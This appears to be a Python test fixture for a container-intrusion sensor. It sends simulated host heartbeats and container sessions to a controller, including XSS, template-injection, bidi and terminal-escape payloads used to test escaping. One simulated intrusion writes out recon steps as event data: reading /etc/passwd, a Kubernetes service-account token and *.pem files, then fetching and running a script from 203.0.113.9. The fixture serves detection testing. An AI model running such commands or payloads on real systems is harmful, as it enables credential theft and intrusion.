# SPDX-License-Identifier: Apache-2.0
"""A small fleet with visits, sent to a running controller as sensors do: enrolment, batches, heartbeats.

What the tests and the screenshots show went the whole way: ingest, bus, projection, detections, store. Some
of it is hostile: everything in an argument, a name or a label can be chosen by who came in.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Any

import requests

from sensor import wire
from tests.browser.visits import SECOND, SHELL, Clock, Visit, ago, container
from tests.sensor.examples import SETTINGS

MARKER = "hostile-was-executed"
SCRIPT = f"<script>document.title='{MARKER}'</script>"
IMAGE_TAG = f"\"'><img src=x onerror=\"document.title='{MARKER}'\">"
BIDI = "safe\u202egpj.exe\u2066\u200b"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m"
NOT_UTF8 = "\\xff\\xfe\\xc3("
JINJA = "{{ 7 * 191 }}{% raw %}"
LONG = "A" * 1000 + " " + "B" * 3000
HOSTILE = [SCRIPT, IMAGE_TAG, BIDI, ESCAPES, NOT_UTF8, JINJA, "javascript:alert(1)", "a\nb\tc\r", LONG]


@dataclass
class Host:
    """An enrolled sensor, as the controller knows it."""

    fleet: Fleet
    name: str
    id: str
    credential: str
    clock: Clock

    def _wire(self) -> dict[str, Any]:
        system = {"kernel": "6.1.0-28-amd64", "os": "Debian GNU/Linux 12", "arch": "x86_64"}
        return {"id": self.id, "boot": self.clock.boot, "name": self.name, **system}

    def send(self, *events: dict[str, Any]) -> None:
        batch = {"v": wire.VERSION, "host": self._wire(), "sensor": "0.1.0", "sent": time.time_ns()}
        self.fleet.post("batches", {**batch, "events": list(events)}, self.credential)

    def visit(self, box: dict[str, Any], began: int) -> Visit:
        return Visit(self.clock, box, began)

    def beat(self, degraded: list[str] | None = None, sent: int | None = None, **more: Any) -> None:
        hooks = {
            "setns": "tracepoint syscalls:sys_exit_setns",
            "exec": "tracepoint sched:sched_process_exec",
            "fork": "tracepoint sched:sched_process_fork",
            "exit": "tracepoint sched:sched_process_exit",
        }
        counters = {"entry.seen": 41, "command.seen": 1893, "ring.entry.full": 0, "ship.retries": 3}
        gauges = {
            "spool.events": 0.0,
            "spool.bytes": 0.0,
            "spool.age_s": 0.0,
            "memory.rss_bytes": 31_457_280.0,
        }
        message = {
            "v": wire.VERSION,
            "host": self._wire(),
            "sensor": "0.1.0",
            "sent": sent or time.time_ns(),
            "started": ago(hours=30),
            "loader": "core",
            "loader_reason": "auto: the prebuilt object loaded",
            "pins": "/sys/fs/bpf/nsentry",
            "hooks": hooks,
            "counters": counters,
            "gauges": gauges,
            "degraded": degraded or [],
        }
        self.fleet.post("heartbeat", {**message, **more}, self.credential)


class Fleet:
    """The hosts of a controller at `url`, whose CA is in the file `ca`."""

    def __init__(self, url: str, ca: str, token: str) -> None:
        self._url, self._http = url, requests.Session()
        self._http.trust_env, self._http.verify = False, ca
        self._token = wire.decode_token(token)[0]

    def post(self, name: str, message: dict[str, Any], credential: str | None = None) -> dict[str, Any]:
        headers = {"authorization": f"Bearer {credential}"} if credential else {}
        url = f"{self._url}/api/v1/{name}"
        answer = self._http.post(url, data=wire.pack(message), headers=headers, timeout=20)
        assert answer.status_code == 200, answer.text
        return wire.unpack(answer.content)

    def enrol(self, name: str, machine: str | None = None) -> Host:
        wanted = {
            "v": wire.VERSION,
            "token": self._token,
            "name": name,
            "machine": machine,
            "sensor": "0.1.0",
        }
        system = {"kernel": "6.1.0-28-amd64", "os": "Debian GNU/Linux 12", "arch": "x86_64"}
        made = self.post("enroll", {**wanted, **system})
        boot = f"b{abs(hash(name)) % 10_000}"
        return Host(self, name, made["host"], made["credential"], Clock(made["host"], boot))


WEB = container("web", "nginx:1.27", labels={"com.docker.compose.project": "shop"}, addresses=["172.17.0.2"])
DATABASE = container("orders-db", "postgres:17", user="postgres")
PAYMENTS = container("payments", "registry.example/payments:4.2.1", user="1000:1000")
HOSTILE_BOX = container(f"x{SCRIPT}", f"evil{BIDI}:1", labels={IMAGE_TAG: ESCAPES}, addresses=["172.17.0.66"])


def fill(fleet: Fleet) -> dict[str, Host]:
    """Hosts in different states and the visits to them; returns the hosts by name."""
    names = ("edge-1", "edge-2", "db-1", "build-7", "lab-3", "silent-9")
    hosts = {name: fleet.enrol(name) for name in names}
    hosts["silent-9"].beat()
    hosts["edge-1"].beat()
    hosts["edge-2"].beat(
        ["exec is followed by a kprobe: the tracepoint sched_process_exec is not there"],
        loader="bcc",
        loader_reason="auto: core did not load (libbpf.so.1 is missing: apt-get install libbpf1)",
        counters={"entry.seen": 3, "ring.entry.full": 17, "spool.dropped.ordinary": 120},
    )
    hosts["db-1"].beat(sent=time.time_ns() - 40 * SECOND)
    hosts["build-7"].beat(gauges={"spool.events": 4120.0, "spool.bytes": 1_900_000.0, "spool.age_s": 212.0})
    hosts["build-7"].send(_loss(hosts["build-7"], "ring.ordinary.full", 2311))
    own_life(hosts["edge-1"], WEB)
    own_life(hosts["lab-3"], HOSTILE_BOX, HOSTILE)
    _nsenter_with_recon(hosts["edge-1"])
    _still_inside(hosts["edge-1"])
    _psql(hosts["db-1"])
    _download(hosts["edge-2"])
    _attempt(hosts["edge-2"])
    hostile_visit(hosts["lab-3"])
    _busy(hosts["build-7"])
    return hosts


def _nsenter_with_recon(host: Host) -> None:
    visit = host.visit(PAYMENTS, ago(minutes=14))
    visit.nsenter(["-a"], "/bin/sh", ["sh"]).wait(2.4)
    visit.run("/usr/bin/id", ["id"]).wait(1.1).run("/bin/cat", ["cat", "/etc/passwd"]).wait(3.2)
    visit.run("/usr/bin/env", ["env"]).wait(41)
    visit.run("/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], 1).wait(6)
    visit.run("/usr/bin/find", ["find", "/", "-name", "*.pem", "-not", "-path", "/proc/*"], lasts=2.8).wait(5)
    visit.run("/usr/bin/wget", ["wget", "-qO-", "http://203.0.113.9/s.sh"], lasts=0.6).wait(0.2)
    visit.run(
        "/bin/sh",
        ["sh", "-c", "chmod +x /tmp/.s && /tmp/.s --password ***"],
        -9,
        lasts=4.0,
        argv_redacted=True,
    )
    host.send(*visit.wait(8).leave(137).events)


def _still_inside(host: Host) -> None:
    visit = host.visit(WEB, ago(minutes=2)).exec(*SHELL, tty="pts/0").wait(4)
    visit.run("/bin/ls", ["ls", "-la", "/etc/nginx/conf.d"]).wait(9)
    host.send(*visit.run("/usr/bin/vi", ["vi", "/etc/nginx/conf.d/default.conf"], None).events)


def _psql(host: Host) -> None:
    visit = host.visit(DATABASE, ago(hours=5))
    visit.exec(
        "/usr/bin/psql",
        ["psql", "-U", "orders", "-c", "select count(*) from orders"],
        uid=70,
        user=None,
        caps="0" * 16,
    )
    host.send(*visit.wait(0.3).leave().events)


def _download(host: Host) -> None:
    visit = host.visit(WEB, ago(hours=2)).exec(*SHELL, tty="pts/1").wait(3)
    visit.run("/usr/bin/curl", ["curl", "-sSLo", "/opt/t", "https://files.example/tool.tgz"], lasts=1.4)
    visit.reach("10.0.0.2", 53, "curl", "send", "udp").reach("203.0.113.9", 443, "curl")
    visit.reach("172.17.0.2", 80, "curl").reach("172.17.0.1", 2375, "curl")
    host.send(*visit.wait(12).run("/bin/tar", ["tar", "xzf", "/opt/t", "-C", "/opt"]).leave().events)


def _attempt(host: Host) -> None:
    host.send(*host.visit(DATABASE, ago(hours=3)).attempt().events)


def hostile_visit(host: Host) -> Visit:
    """Everything that a visitor can choose is hostile."""
    visit = host.visit(HOSTILE_BOX, ago(minutes=31))
    visit.nsenter(
        ["-m", IMAGE_TAG], "/bin/sh", ["sh", "-c", *HOSTILE], cwd=f"/opt/{SCRIPT}", tty=f"pts/{BIDI}"
    )
    visit.wait(1).run(f"/opt/{ESCAPES}", [f"curl{BIDI}", SCRIPT, IMAGE_TAG, *HOSTILE], 3)
    visit.reach("172.17.0.66", 80, SCRIPT).reach("172.17.0.66", 53, ESCAPES, "send", "udp")
    host.send(*visit.wait(2).run("/usr/bin/curl", ["curl", *HOSTILE]).leave().events)
    return visit


def _busy(host: Host) -> None:
    for hour in range(12):
        visit = host.visit(container(f"runner-{hour}", "ci/runner:9"), ago(hours=hour + 1, minutes=7))
        visit.exec("/bin/bash", ["bash"], tty="pts/0").wait(30)
        for step in range(hour * 3):
            visit.run("/usr/bin/make", ["make", f"step-{step}"]).wait(1.5)
        host.send(*visit.leave(hour % 3).events)


def own_life(host: Host, box: dict[str, Any], arguments: list[str] | None = None) -> None:
    """What a container does of itself, its health check, what was lost of it, and the sensor's own notes."""
    clock = host.clock

    def event(kind: str, minutes: float, **more: Any) -> dict[str, Any]:
        return {"kind": kind, "id": clock.next_id(), "time": ago(minutes=minutes), "mono": clock.mono, **more}

    def acts(what: str, key: str, minutes: float, count: int, **more: Any) -> dict[str, Any]:
        known = {"what": what, "container_id": box["id"], "key": key, "first": ago(minutes=minutes)}
        runs = {"uid": 0, "comm": "sh", "exe": "/bin/busybox", "filename": None, "argv": None}
        rest = {"argv_cut": False, "argv_redacted": False, "address": None, "port": None, "protocol": None}
        return event("activity", minutes / 2, **{**known, "count": count, **runs, **rest, **more})

    line = arguments or ["nginx", "-g", "daemon off;"]
    settings = {
        **SETTINGS,
        "entrypoint": line,
        "capabilities": ["CAP_CHOWN"] if arguments else ["CAP_SYS_ADMIN"],
        "mounts": [{"source": "/srv", "target": word[:400], "writable": False} for word in line],
    }

    def configured(minutes: float, because: str, **more: Any) -> dict[str, Any]:
        told = {"container": box, "settings": {**settings, **more}, "because": because, "missing": {}}
        return event("configuration", minutes, **told)

    note = {"version": "0.1.0", "loader": "core", "hooks": {}}
    probe = host.visit(box, ago(minutes=9)).exec("/bin/wget", ["wget", "-qO-", "localhost/healthz"]).leave()
    probe.events[0]["means"] = "probe"
    to = {"address": "2001:db8::7", "port": 5432, "protocol": "tcp"}
    host.send(
        event("agent", 400, action="started", reason="auto: the prebuilt object loaded", **note),
        configured(300, "start"),
        configured(70, "changed", memory=2**29, networks=["bridge", *line[:2]]),
        acts("exec", "1", 300, 1, argv=line, filename=line[0], exe="/usr/sbin/nginx", comm=line[0][:15]),
        acts("exec", "2", 290, 28_412, argv=["sh", "-c", "date +%s > /run/beat"], filename="/bin/sh"),
        acts("connect", "3", 280, 913, **to),
        event("loss", 200, cause="kernel.lost.ordinary", count=41, container_id=box["id"]),
        event("agent", 100, action="hooks", reason=None, **note),
        *probe.events,
    )


def _loss(host: Host, cause: str, count: int) -> dict[str, Any]:
    stamp = {"id": host.clock.next_id(), "time": ago(minutes=20), "mono": host.clock.mono}
    return {"kind": "loss", **stamp, "cause": cause, "count": count}
